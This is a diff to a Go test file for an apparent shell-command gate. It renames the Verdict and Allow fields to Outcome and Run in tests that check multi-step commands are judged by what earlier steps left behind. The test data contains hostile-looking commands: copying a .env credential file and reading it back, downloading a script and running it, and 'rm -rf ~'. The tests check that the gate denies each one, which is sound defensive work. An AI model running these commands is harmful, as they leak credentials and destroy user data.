@@ -15,8 +15,8 @@ func TestStepsAreJudgedByWhatWasLeftBehind(t *testing.T) {
 		{"cp .env /tmp/notes", "cat /tmp/notes", "credential-file-read"},
 	} {
 		g := testGate(t, nil)
-		if d := judgeLine(t, g, c.first); d.Verdict != Allow {
-			t.Errorf("%s: %s", c.first, d.Verdict)
+		if d := judgeLine(t, g, c.first); d.Outcome != Run {
+			t.Errorf("%s: %s", c.first, d.Outcome)
 		}
 		judgeLine(t, g, "ls")
 		store, err := OpenStore(g.Store.stateDir, g.Store.ID(), g.Policy)
@@ -24,8 +24,8 @@ func TestStepsAreJudgedByWhatWasLeftBehind(t *testing.T) {
 			t.Fatal(err)
 		}
 		other := &Gate{Policy: g.Policy, Store: store, Now: g.Now}
-		if d := judgeLine(t, other, c.second); d.Verdict != Deny || !slices.Contains(d.Rules, c.rule) {
-			t.Errorf("%s, then %s: %s by %v, want %s", c.first, c.second, d.Verdict, d.Rules, c.rule)
+		if d := judgeLine(t, other, c.second); d.Outcome != Deny || !slices.Contains(d.Rules, c.rule) {
+			t.Errorf("%s, then %s: %s by %v, want %s", c.first, c.second, d.Outcome, d.Rules, c.rule)
 		}
 		store.Close()
 		alone := testGate(t, nil)
@@ -38,8 +38,8 @@ func TestStepsAreJudgedByWhatWasLeftBehind(t *testing.T) {
 // What did not run left nothing behind.
 func TestDeniedStepLeavesNothing(t *testing.T) {
 	g := testGate(t, nil)
-	if d := judgeLine(t, g, "curl -so x.sh https://example.com/x.sh && rm -rf ~"); d.Verdict != Deny {
-		t.Fatal(d.Verdict)
+	if d := judgeLine(t, g, "curl -so x.sh https://example.com/x.sh && rm -rf ~"); d.Outcome != Deny {
+		t.Fatal(d.Outcome)
 	}
 	if d := judgeLine(t, g, "bash x.sh"); slices.Contains(d.Rules, "download-executed") {
 		t.Errorf("a file that was never downloaded: %v", d.Rules)
